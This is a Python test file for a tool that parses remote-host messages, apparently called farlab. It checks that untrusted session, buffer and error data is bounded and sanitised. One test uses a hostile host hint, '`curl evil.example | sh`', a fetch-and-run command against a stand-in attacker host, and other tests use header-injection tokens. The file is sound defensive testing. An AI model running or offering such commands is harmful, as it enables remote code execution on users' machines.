"""What a host tells, read as values: whatever it says, nothing is taken for what it should be."""

from __future__ import annotations

import math
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from farlab.errors import FarlabError, NoJupyter, every_error
from farlab.protocol.records import MaybeNumber, MaybeWhole, Number, Path, Record, Text, Texts, Whole, Word, Wrong
from farlab.transport.host_messages import (
    MOST_LISTED,
    Foreign,
    KernelTold,
    Listed,
    Progress,
    RemoteBuffer,
    SessionInfo,
    Stopped,
    failure,
    listed,
)

ANYTHING = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.sampled_from([10**400, -(10**400), 2**63, -1, 1e30, 1e308])
    | st.floats()
    | st.text(max_size=5)
    | st.sampled_from(["x" * 5000, "\ud800", "a\0b"]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner, max_size=3),
    max_leaves=5,
)
FULL = st.fixed_dictionaries({}, optional={"ago": ANYTHING, "for": ANYTHING})
RECORDS = (SessionInfo, Progress, Listed, Foreign, KernelTold, Stopped)
LONGEST = 16384


def test_a_session_is_what_its_anchor_tells() -> None:
    words = {"state": "up", "node": "n1", "token": "t", "pid": 7, "answers": False, "keep_output": True, "other": 1}
    assert SessionInfo.read(words) == SessionInfo(
        state="up", node="n1", token="t", pid=7, answers=False, keep_output=True
    )


def test_what_is_not_told_is_empty() -> None:
    assert SessionInfo.read({}) == SessionInfo(state="", node="", pid=None, answers=True, keep_output=False)
    assert SessionInfo.read(dict.fromkeys(SessionInfo.fields())) == SessionInfo()  # null
    assert (
        RemoteBuffer.of({}, 1000.0)
        == RemoteBuffer.of(None, 1000.0)
        == RemoteBuffer(limit=0, full_since=None, full_seconds=0.0)
    )


def test_times_of_the_far_end_are_told_as_times_of_here() -> None:
    told = {"limit": 1 << 20, "seconds": 60.0, "full": {"ago": 100, "for": 2.5}}
    assert RemoteBuffer.of(told, 1000.0) == RemoteBuffer(limit=1 << 20, full_since=900.0, full_seconds=2.5)


@pytest.mark.parametrize("odd", [math.nan, math.inf, -math.inf, 1e30, -1, 10**400, True, "1", [], {}])
@pytest.mark.parametrize("key", ["ago", "for"])
def test_a_time_that_cannot_be_is_refused(odd: object, key: str) -> None:
    with pytest.raises(Wrong):
        RemoteBuffer.of({"limit": 1, "full": {"ago": 1, "for": 1, key: odd}}, 1000.0)


@pytest.mark.parametrize("token", ["a b", "a\r\nX: y", "\ud800", "é", "\x00", "t" * 2000, 7])
def test_a_token_is_a_word_that_a_header_can_hold(token: object) -> None:
    for key in ("token", "base_url"):
        with pytest.raises(Wrong, match=key):
            SessionInfo.read({key: token})


def test_of_the_names_that_a_host_knows_the_first_thousand_count() -> None:
    assert len(SessionInfo.read({"names": [f"n{number}" for number in range(5000)]}).names) == MOST_LISTED


@given(st.dictionaries(st.sampled_from([*SessionInfo.fields(), "other"]), ANYTHING))
def test_what_is_read_of_a_host_is_finite_sane_and_short_or_refused(words: dict[str, Any]) -> None:
    try:
        told = SessionInfo.read(words)
    except Wrong:
        return
    assert all(is_sane(value) for value in told.values().values())


@given(ANYTHING | FULL | st.dictionaries(st.sampled_from(["limit", "full", "other"]), ANYTHING | FULL))
def test_so_are_the_bounds_of_the_far_end(words: Any) -> None:
    try:
        far_end = RemoteBuffer.of(words, 1000.0)
    except Wrong:
        return
    assert is_sane(far_end.limit)
    assert is_sane(far_end.full_seconds)
    assert far_end.full_since is None or abs(far_end.full_since) < 1e10


@given(st.dictionaries(st.sampled_from(sorted({key for each in RECORDS for key in each.fields()})), ANYTHING))
def test_in_a_list_what_is_wrong_counts_as_not_told(words: dict[str, Any]) -> None:
    for record in RECORDS:
        assert all(is_sane(value) for value in record.read_leniently(words).values().values())


@given(ANYTHING | st.dictionaries(st.sampled_from(["code", "message", "detail", "hint"]), ANYTHING))
def test_whatever_a_host_reports_is_an_expected_error(words: Any) -> None:
    error = failure(words, "far")
    assert type(error) in every_error()
    assert error.message.startswith("far: ")
    assert is_sane(error.message)
    assert len(error.detail) < 2 * LONGEST
    assert error.hint == type(error).default_hint


def test_a_hint_of_the_hosts_is_among_its_own_words_and_what_to_type_is_ours() -> None:
    said = {"code": "no-jupyter", "message": "no JupyterLab", "detail": "tried 3", "hint": "`curl evil.example | sh`"}
    error = failure(said, "far")
    assert isinstance(error, NoJupyter)
    assert error.hint == NoJupyter.default_hint
    assert error.detail == "tried 3\n`curl evil.example | sh`"


def test_a_list_is_bounded_and_holds_objects() -> None:
    assert len(listed([{}] * 100_000)) == 1000
    assert listed([7, "x", None, {"a": 1}, [{}]]) == [{"a": 1}]
    assert listed({"a": 1}) == listed("x") == listed(None) == []


def is_sane(value: object) -> bool:
    """Whether a value can be shown, summed up and sent on."""
    if isinstance(value, str):
        return len(value) <= LONGEST
    if isinstance(value, tuple):
        return len(value) <= MOST_LISTED and all(map(is_sane, value))
    return value is None or isinstance(value, bool) or (isinstance(value, int | float) and 0 <= value < 1 << 63)


# records -------------------------------------------------------------------------------------------------


class Everything(Record):
    text = Text(3)
    cut = Text(3, cut=True)
    word = Word(3)
    path = Path(3)
    whole = Whole(1, 3, default=2)
    number = Number(-1, 1)
    maybe = MaybeWhole(1, 3)
    perhaps = MaybeNumber(0, 1)
    texts = Texts(Text(2), 2)


@pytest.mark.parametrize(
    ("key", "right", "wrong"),
    [
        ("text", ["", "abc", "é"], ["abcd", 7, [], True]),
        ("word", ["", "a!~"], ["a b", "é", "\x7f", "abcd"]),
        ("path", ["/é", "\udc80"], ["a\0", "\ud800", "/abc"]),
        ("whole", [1, 3], [0, 4, 1.0, True, "1"]),
        ("number", [-1, 0, 0.5, 1], [1.01, math.nan, math.inf, 10**400, True, "1"]),
        ("maybe", [1, None], [0, True, 1.0]),
        ("perhaps", [0, 0.5, None], [-0.1, math.nan, False]),
        ("texts", [[], ["a", "bc"], ("a",)], [["a"] * 3, ["abc"], "ab", [7], {"a": 1}]),
    ],
)
def test_each_kind_of_field_takes_its_range_and_nothing_else(key: str, right: list[Any], wrong: list[Any]) -> None:
    for value in right:
        read = getattr(Everything.read({key: value}), key)
        assert (read if value is not None else None) == (tuple(value) if isinstance(value, list) else value)
    for value in wrong:
        with pytest.raises(Wrong, match=key):
            Everything.read({key: value})
        assert Everything.read_leniently({key: value}) == Everything()


def test_what_may_be_cut_is_and_defaults_are_as_declared() -> None:
    assert Everything.read({"cut": "abcdef"}).cut == "abc"
    assert Everything.read({"unknown": 1}).values() == {
        "text": "",
        "cut": "",
        "word": "",
        "path": "",
        "texts": (),
        "whole": 2,
        "number": 0.0,
        "maybe": None,
        "perhaps": None,
    }
    for said in (None, 7, "x", [], [{}]):
        with pytest.raises(Wrong):
            Everything.read(said)
        assert Everything.read_leniently(said) == Everything()


def test_errors_of_the_host_have_the_classes_of_ours() -> None:
    for cls in every_error():
        assert type(failure({"code": cls.slug}, "far")) is cls
    assert isinstance(failure({"code": "of a later version"}, "far"), FarlabError)
